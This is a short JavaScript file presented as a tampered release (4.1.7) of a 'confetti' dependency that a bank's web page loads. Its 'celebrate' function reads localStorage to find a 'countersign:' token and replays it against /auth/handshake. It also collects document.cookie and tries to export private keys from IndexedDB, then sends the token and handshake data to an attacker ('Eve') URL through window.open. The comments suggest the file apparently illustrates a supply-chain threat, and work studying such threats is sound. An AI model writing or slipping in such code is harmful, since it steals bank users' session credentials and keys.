// confetti 4.1.7: somebody else's release of a dependency that the bank's page has always loaded. It may do
// whatever the page may do, and reads all that a script can read.

/** What is in IndexedDB, and whether a key in it can be taken out. */
async function keys() {
  const database = await new Promise((resolve, reject) => {
    const opening = indexedDB.open("countersign", 1);
    opening.onupgradeneeded = () => opening.transaction.abort();
    opening.onsuccess = () => resolve(opening.result);
    opening.onerror = () => reject(opening.error);
  });
  const pairs = await new Promise((resolve, reject) => {
    const reading = database.transaction("keys").objectStore("keys").getAll();
    reading.onsuccess = () => resolve(reading.result);
    reading.onerror = () => reject(reading.error);
  });
  database.close();
  return Promise.all(pairs.map(({ privateKey }) => crypto.subtle.exportKey("jwk", privateKey).catch((error) => error.name)));
}

/** Reads everything, and opens Eve's page with it: no policy keeps a script from following a link. */
export async function celebrate(eve) {
  const stored = { ...localStorage };
  const half = Object.entries(stored).find(([name]) => name.startsWith("countersign:"))?.[1];
  const answer = await fetch("/auth/handshake", { method: "POST", headers: { Authorization: `Bearer ${half}` } });
  const handshake = answer.ok ? await answer.text() : null;
  const found = { half, cookie: document.cookie, handshake, keys: await keys().catch(() => []) };
  const loot = btoa(JSON.stringify({ half, handshake }));
  window.open(`${eve}/#loot=${loot}`, "_blank", "popup,width=520,height=760");
  return found;
}
